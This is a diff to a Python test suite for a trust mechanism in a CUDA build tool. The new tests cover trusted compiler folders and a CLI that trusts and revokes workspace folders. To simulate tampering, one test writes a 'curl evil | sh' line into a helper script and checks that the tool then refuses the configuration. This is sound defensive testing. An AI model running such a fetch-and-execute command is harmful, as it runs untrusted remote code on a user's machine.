@@ -11,8 +11,13 @@ import sys
 
 import pytest
 
-from kernelblaster.settings import SettingsError, UntrustedConfigError, load_settings
-from kernelblaster.trust import allow_list_path, trust
+from kernelblaster.settings import (
+    SettingsError,
+    UntrustedConfigError,
+    config_references,
+    load_settings,
+)
+from kernelblaster.trust import allow_list_path, folder_trusted, trust
 
 
 @pytest.fixture(autouse=True)
@@ -135,3 +140,33 @@ def test_a_named_link_pointed_elsewhere_after_trust_needs_trust_again(tmp_path):
     (repo / "tools" / "cc").symlink_to("gcc-b")
     with pytest.raises(UntrustedConfigError, match="-ccbin, tools/cc"):
         load_settings(repo, environ={})
+
+
+def test_a_trusted_program_folder_is_covered_with_everything_below_it(tmp_path):
+    """`-ccbin tools`: a program there may run its neighbours, in folders below it too; a link
+    back into the folder is not followed twice."""
+    repo = _repo(tmp_path, 'nvcc_flags = ["-ccbin", "tools"]\n')
+    (repo / "tools" / "lib").mkdir(parents=True)
+    (repo / "tools" / "gcc").write_text('#!/bin/sh\nexec "$(dirname "$0")/lib/run.sh" "$@"\n')
+    (repo / "tools" / "lib" / "run.sh").write_text('#!/bin/sh\nexec gcc "$@"\n')
+    (repo / "tools" / "lib" / "loop").symlink_to("..")
+    named, places = config_references(repo / "kernelblaster.toml", repo)
+    assert named == [repo / "tools"] and places == []
+    trust(repo / "kernelblaster.toml", named, places)
+    assert load_settings(repo, environ={}).nvcc_flags == ["-ccbin", "tools"]
+    (repo / "tools" / "lib" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(UntrustedConfigError, match="-ccbin, tools"):
+        load_settings(repo, environ={})
+
+
+def test_the_cli_trusts_a_folder_for_the_language_server_and_revokes_it(tmp_path):
+    """A folder with no configuration file is still one the user may trust to run kernels in."""
+    folder = tmp_path / "kernels"
+    folder.mkdir()
+    said = _cli(folder, "trust")
+    assert said.returncode == 0 and f"trusted: {folder}/" in said.stdout
+    assert folder_trusted(folder) and folder_trusted(folder / "deeper")
+    assert not folder_trusted(tmp_path) and not folder_trusted(tmp_path / "kernels-other")
+    assert f"{folder}/ (workspace folder)" in _cli(folder, "trust", "--list").stdout
+    assert f"revoked: {folder}/" in _cli(folder, "trust", "--revoke").stdout
+    assert not folder_trusted(folder)
